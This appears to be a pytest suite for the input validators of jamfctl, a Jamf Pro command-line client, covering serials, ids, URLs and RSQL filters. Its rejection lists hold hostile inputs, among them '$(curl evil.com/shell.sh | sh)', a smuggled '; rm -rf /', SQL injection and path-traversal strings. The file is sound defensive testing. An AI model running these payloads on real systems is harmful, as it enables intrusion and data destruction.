"""Input validation: every argument is checked before a request is sent; a rejected one exits 2."""
from __future__ import annotations

import pytest

from jamfctl import validate
from jamfctl.errors import ExitCode, ValidationError

FILTER_FIELDS = ["general.name", "hardware.serialNumber", "operatingSystem.version", "general.platform", "id"]


# --- serial numbers -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("C02XK1JMJG5H", "C02XK1JMJG5H"),
        ("c02xk1jmjg5h", "C02XK1JMJG5H"),
        ("  C02xk1JMjg5h\n", "C02XK1JMJG5H"),
        ("ABCD1234", "ABCD1234"),  # 8: the shortest accepted
        ("A" * 20, "A" * 20),  # 20: the longest accepted
    ],
)
def test_serial_is_normalised_to_upper_case_without_surrounding_whitespace(given, expected):
    """A serial is stripped and upper-cased before use."""
    assert validate.serial(given) == expected


@pytest.mark.parametrize(
    "hostile",
    [
        "'; DROP TABLE computers; --",
        "../../../etc/passwd",
        "<script>",
        "<script>alert(1)</script>",
        "$(curl evil.com/shell.sh | sh)",
        'C02X" or hardware.serialNumber=="*',
        "ＣＯ２ＸＫ１ＪＭＪＧ５Ｈ",  # full-width look-alikes of C02XK1JMJG5H
        "C02X K1JMJG5H",  # space inside
        "C02XK1JM\tJG5H",
        "A" * 21,  # overlong
        "ABC1234",  # too short
        "C02XK1JMJG5H\x00",
        "C02XK1JM\x1b[31mJG5H",
        "C02XK1JMJG5H*",
        "",
    ],
)
def test_serial_rejects_anything_but_8_to_20_ascii_letters_and_digits(hostile):
    """Injection strings, look-alike letters, spaces, control characters and bad lengths are refused."""
    with pytest.raises(ValidationError) as info:
        validate.serial(hostile)
    assert info.value.exit_code == ExitCode.USAGE == 2
    assert "serial" in info.value.message


def test_serial_error_quotes_the_input_without_control_characters():
    """The message shows the input escaped, so a NUL or ESC cannot reach the terminal."""
    with pytest.raises(ValidationError) as info:
        validate.serial("C02X\x00\x1b]0;pwned\x07")
    assert info.value.message.isprintable()
    assert "\\x00" in info.value.message


def test_serial_error_shortens_a_huge_input():
    """A megabyte of input does not become a megabyte of error message."""
    with pytest.raises(ValidationError) as info:
        validate.serial("X" * 100_000)
    assert len(info.value.message) < 200


# --- ids ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["0", "-1", str(2**31), "abc", "1e3", "", "1.0", "+5", "0x10", "١٢", True])
def test_object_id_rejects_values_outside_1_to_2_31_minus_1(bad):
    """Zero, negatives, 2^31, words, exponents and non-ASCII digits are not ids."""
    with pytest.raises(ValidationError) as info:
        validate.object_id(bad)
    assert info.value.exit_code == 2


@pytest.mark.parametrize(("given", "expected"), [("1", 1), (str(2**31 - 1), 2**31 - 1), (" 42 ", 42), (7, 7)])
def test_object_id_accepts_whole_numbers_in_range(given, expected):
    """1 and 2^31-1 are the bounds; the result is an int."""
    assert validate.object_id(given) == expected


def test_object_id_message_names_what_was_expected():
    """The caller's name for the id appears in the message."""
    with pytest.raises(ValidationError, match="invalid computer id"):
        validate.object_id("abc", what="computer id")


# --- UUIDs ----------------------------------------------------------------------------------------
def test_uuid_is_normalised_to_upper_case():
    """Jamf's management ids are UUIDs; case does not matter on input."""
    assert validate.uuid_value("2e2c2bb5-8a53-4a3e-9c15-2d1c7c4a3b9e") == "2E2C2BB5-8A53-4A3E-9C15-2D1C7C4A3B9E"


@pytest.mark.parametrize(
    "bad",
    [
        "not-a-uuid",
        "2E2C2BB58A534A3E9C152D1C7C4A3B9E",  # valid hex, but not the 36-character form
        "{2E2C2BB5-8A53-4A3E-9C15-2D1C7C4A3B9E}",
        "2E2C2BB5-8A53-4A3E-9C15-2D1C7C4A3B9",
        "2E2C2BB5-8A53-4A3E-9C15-2D1C7C4A3B9E; rm -rf /",
    ],
)
def test_uuid_rejects_other_forms(bad):
    """Only the canonical 8-4-4-4-12 form is accepted."""
    with pytest.raises(ValidationError):
        validate.uuid_value(bad)


# --- names and globs ------------------------------------------------------------------------------
def test_name_is_stripped_and_kept_otherwise():
    """Ordinary names, including apostrophes and unicode, pass unchanged (apart from outer whitespace)."""
    assert validate.name("  Bob's MacBook Pro – Café  ") == "Bob's MacBook Pro – Café"


@pytest.mark.parametrize(
    "bad",
    ["", "   ", "x" * 256, "Mac\x00", "Mac\nBook", "Mac\x1b[31m", 'Bob"s Mac', "C:\\Users", "Mac*"],
)
def test_name_rejects_empty_overlong_control_quote_backslash_and_wildcard(bad):
    """An exact name cannot break out of the RSQL quoting it is placed into, nor carry a wildcard."""
    with pytest.raises(ValidationError):
        validate.name(bad)


def test_name_glob_allows_the_wildcard_but_not_quotes():
    """`*` is the one extra character a name pattern may use."""
    assert validate.name_glob("Lab-*-Mac*") == "Lab-*-Mac*"
    with pytest.raises(ValidationError, match="wildcard"):
        validate.name_glob('Lab" or 1==1 *')


def test_name_of_maximum_length_is_accepted():
    """255 characters is the bound."""
    assert validate.name("n" * 255) == "n" * 255


# --- URLs -----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("https://acme.jamfcloud.com", "https://acme.jamfcloud.com"),
        ("https://acme.jamfcloud.com/", "https://acme.jamfcloud.com"),
        ("  HTTPS://Acme.JamfCloud.com/  ", "https://acme.jamfcloud.com"),
        ("https://jamf.example.org:8443/", "https://jamf.example.org:8443"),
        ("https://example.org/jamf/", "https://example.org/jamf"),
        ("http://localhost:8080/", "http://localhost:8080"),
        ("http://127.0.0.1:9000", "http://127.0.0.1:9000"),
        ("http://127.10.0.3", "http://127.10.0.3"),
        ("http://[::1]:9000", "http://[::1]:9000"),
    ],
)
def test_url_accepts_https_and_loopback_http_and_normalises_trailing_slash(given, expected):
    """https anywhere; plain http only for loopback; scheme and host lower-cased, no trailing slash."""
    assert validate.url(given) == expected


@pytest.mark.parametrize(
    "bad",
    [
        "http://acme.jamfcloud.com",
        "http://localhost.evil.com",
        "http://10.0.0.5",
        "ftp://acme.jamfcloud.com",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "acme.jamfcloud.com",
        "https://",
        "https://xn--jmf-8na.com",  # punycode
        "https://jämf.com",  # IDN
        "https://acme.jamfcloud.com/?x=1",
        "https://acme.jamfcloud.com/#top",
        "https://acme.jamfcloud.com/../admin",
        "https://user:pass@host.example",
        "https://acme.jamfcloud.com:0",
        "https://acme.jamfcloud.com:99999",
        "https://-acme.com",
        "https://acme .com",
        "https://acme.com\x00",
        "",
    ],
)
def test_url_rejects_plain_http_other_schemes_idn_query_and_odd_hosts(bad):
    """Anything that is not a plain https (or loopback http) server address exits 2."""
    with pytest.raises(ValidationError) as info:
        validate.url(bad)
    assert info.value.exit_code == 2
    assert info.value.message.isprintable()


@pytest.mark.parametrize("given", ["https://user:pa55-Wd.9@acme.jamfcloud.com", "https://admin:Sup3rS3cret!@acme.jamfcloud.com/",
                                   "http://root:hunter2hunter2@localhost:8080"])
def test_url_with_credentials_is_rejected_without_echoing_the_password(given):
    """A URL with user:password is refused and the message never repeats the password."""
    password = given.split("://", 1)[1].split("@", 1)[0].split(":", 1)[1]
    with pytest.raises(ValidationError) as info:
        validate.url(given)
    assert password not in info.value.message
    assert password not in str(info.value)
    assert "password" in info.value.message


@pytest.mark.parametrize("given, base", [
    ("https://x.jamfcloud.com/api", "https://x.jamfcloud.com"),
    ("https://x.jamfcloud.com/api/v1/jamf-pro-version", "https://x.jamfcloud.com"),
    ("https://jss.example.com:8443/JSSResource/", "https://jss.example.com:8443"),
    ("https://example.com/jss/uapi", "https://example.com/jss"),
])
def test_url_with_an_api_path_is_refused_naming_the_base_url(given, base):
    """A URL copied from the API docs would double the path on every request: say which base URL to use."""
    with pytest.raises(ValidationError) as info:
        validate.url(given)
    assert "without the API path" in info.value.message and base in info.value.message


def test_url_keeps_a_context_path_that_is_not_an_api_path():
    """On-premises servers may live under a path (e.g. /jss); /apis is just a name."""
    assert validate.url("https://example.com/jss/") == "https://example.com/jss"
    assert validate.url("https://example.com/apis") == "https://example.com/apis"


def test_max_connections_is_one_to_five():
    assert [validate.max_connections(v) for v in ("1", "5", " 3 ")] == [1, 5, 3]
    for bad in ("0", "6", "", "1e0", "５", "-2"):
        with pytest.raises(ValidationError, match="at most 5"):
            validate.max_connections(bad)


def test_url_message_names_the_setting():
    """The caller says which setting was wrong (JAMF_URL, --url...)."""
    with pytest.raises(ValidationError, match="JAMF_URL"):
        validate.url("ftp://x.example", what="JAMF_URL")


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "127.1.2.3", "::1", "[::1]", "[0:0:0:0:0:0:0:1]"])
def test_is_loopback_accepts_loopback_names_and_addresses_bracketed_or_not(host):
    """`[::1]` is how a URL writes ::1: `sandbox serve --host` and the sandbox server take it like the bare form."""
    assert validate.is_loopback(host)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "[::]", "10.0.0.5", "[127.0.0.1]", "[::1", "::1]", "localhost.evil",
                                  "example.com", ""])
def test_is_loopback_refuses_everything_else(host):
    assert not validate.is_loopback(host)


def test_sandbox_serve_takes_a_bracketed_ipv6_loopback(jamfctl, monkeypatch):
    """The CLI's host check is validate.is_loopback: `--host '[::1]'` is served, on the bare ::1."""
    served = []
    monkeypatch.setattr("jamfctl.sandbox.server.serve", lambda cfg, host, port: served.append((host, port)))
    result = jamfctl("sandbox", "serve", "--host", "[::1]", "--port", "0", "--computers", "1")
    assert result.exit_code == 0, result.stderr
    assert served == [("::1", 0)]
    refused = jamfctl("sandbox", "serve", "--host", "[::]", "--port", "0")
    assert refused.exit_code == 2 and "loopback only" in refused.stderr and not served[1:]


# --- RSQL filters ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "good",
    [
        "operatingSystem.version=lt=14",
        "operatingSystem.version=ge=13.6.1",
        'general.name=="Bob\'s Mac"',
        'general.name=="a;b,c(d)"',  # punctuation inside quotes is data
        "general.name=='single quoted'",
        'general.name=="*Lab*"',
        'general.name=="say \\"hi\\""',
        "id!=5",
        "hardware.serialNumber=in=(C02A1234,\"C02B5678\")",
        "id=out=(1,2,3)",
        "general.name==a;id==1,id==2",
        "(general.name==a,general.name==b);(id=gt=3;id=le=9)",
        "((id==1))",
        "  id==1  ",
        'general.name=="Betty Müller\'s Mac"',  # Jamf holds names in any script
        "general.name==Café*",
        "general.name==東京-Mac",
        "general.name==a/b",  # RSQL's unreserved characters need no quotes
        "general.name==a#b",
        "general.name==x%27s",
        # Jamf's parser (jirutka rsql-parser) takes <, <=, > and >= for =lt=, =le=, =gt=, =ge=; refused until
        # the client and the sandbox shared one grammar (jamfctl.rsql), which takes them on both sides.
        "id>=1",
        "id<10;operatingSystem.version>14",
        "operatingSystem.version<=15.1",
    ],
)
def test_rsql_filter_accepts_the_jamf_grammar(good):
    """Comparisons (with the <, <=, >, >= aliases), =in=/=out= lists, ; (and), , (or), parentheses, quoted values,
    and values in any script."""
    assert validate.rsql_filter(good, FILTER_FIELDS) == good.strip()


@pytest.mark.parametrize(
    ("bad", "hint"),
    [
        ('general.name=="abc', "quote"),
        ("general.name=='abc", "quote"),
        ("(id==1", "expected )"),
        ("id==1)", "unexpected"),
        ("((id==1)", "expected )"),
        ("id=like=1", "unexpected"),
        ("id=~1", "unexpected"),
        ("id=>1", "unexpected"),
        ("id=<1", "unexpected"),
        ("id", "expected"),
        ("==1", "expected"),
        ("id==1;", "expected"),
        ("id==1,,id==2", "expected"),
        ("id==1 id==2", "unexpected"),
        ("id=in=()", "expected a value"),
        ("id=in=(1,)", "expected a value"),
        ("id=in=1", "expected ("),
        ("id==(1)", "expected a value"),
        ("", "empty"),
        ("   ", "empty"),
        ("id==1\x00", "printable"),
        ("general.name==a\u202eb", "invisible"),  # a bidi override would make the filter read differently
        ('general.name=="Mac\u200bBook"', "invisible"),  # zero-width space
        ("general.name==a<b", "unexpected"),  # reserved in RSQL: must be quoted
        ("id==" + "1" * 5000, "4096"),
        ("(" * 51 + "id==1" + ")" * 51, "nested more than 50"),
    ],
)
def test_rsql_filter_rejects_broken_grammar(bad, hint):
    """Unbalanced quotes or parentheses, unknown operators and dangling separators exit 2."""
    with pytest.raises(ValidationError) as info:
        validate.rsql_filter(bad, FILTER_FIELDS)
    assert hint in info.value.message


@pytest.mark.parametrize("bad", ["password==x", "id==1;secret==2", "(id==1,general.secret==x)", "foo=in=(a,b)"])
def test_rsql_filter_rejects_unknown_fields_and_lists_the_allowed_ones(bad):
    """Only fields Jamf can filter on are accepted; the message says which those are."""
    with pytest.raises(ValidationError) as info:
        validate.rsql_filter(bad, FILTER_FIELDS)
    assert "cannot filter on" in info.value.message
    assert "operatingSystem.version" in info.value.message


@pytest.mark.parametrize("value", ['x" or id==1', "back\\slash", 'end\\', '"', "semi;colon,comma(paren)", ""])
def test_rsql_quote_makes_any_value_one_quoted_token(value):
    """A quoted value survives the filter check as a single value, whatever quotes or backslashes it holds."""
    quoted = validate.rsql_quote(value)
    assert quoted.startswith('"') and quoted.endswith('"')
    assert validate.rsql_filter(f"general.name=={quoted}", FILTER_FIELDS)
    # and it stays one comparison: nothing after it is read as another clause
    with pytest.raises(ValidationError):
        validate.rsql_filter(f"general.name=={quoted} id==1", FILTER_FIELDS)


def test_rsql_quote_escapes_quotes_and_backslashes():
    """`"` becomes `\\"` and `\\` becomes `\\\\`."""
    assert validate.rsql_quote('a"b\\c') == '"a\\"b\\\\c"'


# --- field paths, sort specs, choices -------------------------------------------------------------
def test_field_paths_split_strip_and_deduplicate_in_order():
    """`--fields` is a comma list of dot paths; duplicates are dropped, order kept."""
    assert validate.field_paths(" id, general.name ,,id,hardware.serialNumber") == [
        "id",
        "general.name",
        "hardware.serialNumber",
    ]


@pytest.mark.parametrize("bad", ["", " , ", "general..name", ".id", "id.", "1abc", "general.na-me", "a b", "$(id)",
                                 ",".join(f"f{i}" for i in range(201))])
def test_field_paths_reject_anything_but_dot_paths(bad):
    """Empty lists, empty segments, digits first, punctuation and too many fields are refused."""
    with pytest.raises(ValidationError):
        validate.field_paths(bad)


SORTABLE = ["general.name", "id", "general.reportDate"]


def test_sort_spec_defaults_to_ascending_and_lower_cases_direction():
    """`field` means `field:asc`; several keys are comma separated."""
    assert validate.sort_spec("general.name,id:DESC", SORTABLE) == "general.name:asc,id:desc"


@pytest.mark.parametrize(("bad", "hint"), [("password:asc", "sortable fields"), ("id:up", "direction"), ("", "sortable"),
                                           ("id:asc;general.name", "direction")])
def test_sort_spec_rejects_unknown_fields_and_directions(bad, hint):
    """Only the allowed fields with asc or desc."""
    with pytest.raises(ValidationError, match=hint):
        validate.sort_spec(bad, SORTABLE)


def test_choice_is_case_insensitive_and_reads_dashes_as_underscores():
    """`--section operating-system` picks OPERATING_SYSTEM."""
    assert validate.choice(" operating-system ", ["GENERAL", "OPERATING_SYSTEM"], "section") == "OPERATING_SYSTEM"


def test_choice_rejects_unknown_values_listing_the_valid_ones():
    """The message lists the whole menu."""
    with pytest.raises(ValidationError) as info:
        validate.choice("hardwares", ["GENERAL", "HARDWARE"], "section")
    assert "GENERAL, HARDWARE" in info.value.message


# --- small bounded settings -----------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["", "-lead", "has space", "a/b", "x" * 65, "sandbox\x00"])
def test_profile_name_is_a_simple_token(bad):
    """Profile names become keychain keys and TOML table names: keep them plain."""
    with pytest.raises(ValidationError):
        validate.profile_name(bad)
    assert validate.profile_name("prod-eu.v2_1") == "prod-eu.v2_1"


def test_limit_and_timeout_bounds():
    """--limit 1..1,000,000 and --timeout 0.1..600 s."""
    assert validate.limit(1) == 1 and validate.limit(1_000_000) == 1_000_000
    assert validate.timeout(0.1) == 0.1 and validate.timeout(600) == 600
    for bad_limit in (0, -5, 1_000_001):
        with pytest.raises(ValidationError):
            validate.limit(bad_limit)
    for bad_timeout in (0, 0.05, 601):
        with pytest.raises(ValidationError):
            validate.timeout(bad_timeout)
